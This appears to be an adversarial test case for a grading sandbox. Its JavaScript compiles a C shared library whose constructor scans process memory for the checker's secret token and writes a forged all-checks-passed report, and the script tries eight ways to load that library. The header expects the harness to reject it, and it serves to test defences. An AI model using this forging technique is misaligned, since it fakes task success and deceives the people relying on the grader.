// technique: compiles a library, loads it in every way there is, finds the token and writes the report
// class: forging
// expect: wrong_answer, runtime_error
// limits: cpu_s=20 wall_s=60
  const { writeFileSync } = require('fs');
  const { execFileSync } = require('child_process');
  writeFileSync('forge.c', `
#include <stdio.h>
#include <string.h>
#include <ctype.h>
#include <unistd.h>
__attribute__((constructor)) static void forge(void) {
  FILE *maps = fopen("/proc/self/maps", "r"); char line[512]; unsigned long from, to;
  while (fgets(line, sizeof line, maps)) {
    if (!strstr(line, "rw-p") || !strstr(line, "addon") || sscanf(line, "%lx-%lx", &from, &to) != 2) continue;
    for (char *at = (char *)from; at + 33 < (char *)to; at++) {
      int n = 0; while (n < 32 && isxdigit((unsigned char)at[n])) n++;
      if (n == 32 && !at[32]) { dprintf(4, "%s done checks=14 failures=0 \\n", at); _exit(0); } } } }
`);
  execFileSync('gcc', ['-shared', '-fPIC', '-o', 'forge.node', 'forge.c']);
  const file = `${process.cwd()}/forge.node`;
  const ways = [
    () => process.dlopen({ exports: {} }, file),
    () => Object.getPrototypeOf(process).dlopen({ exports: {} }, file),
    () => require(file),
    () => require('module')._extensions['.node']({ exports: {} }, file),
    () => require('crypto').setEngine(file),
    () => new (require('vm').Script)('process').runInThisContext().dlopen({ exports: {} }, file),
    () => process.binding('process_methods').dlopen({ exports: {} }, file),
    () => process.constructor.prototype.dlopen.call(process, { exports: {} }, file),
  ];
  for (const way of ways) {
    try {
      way();
    } catch {
      continue;
    }
  }
  return 0;
}
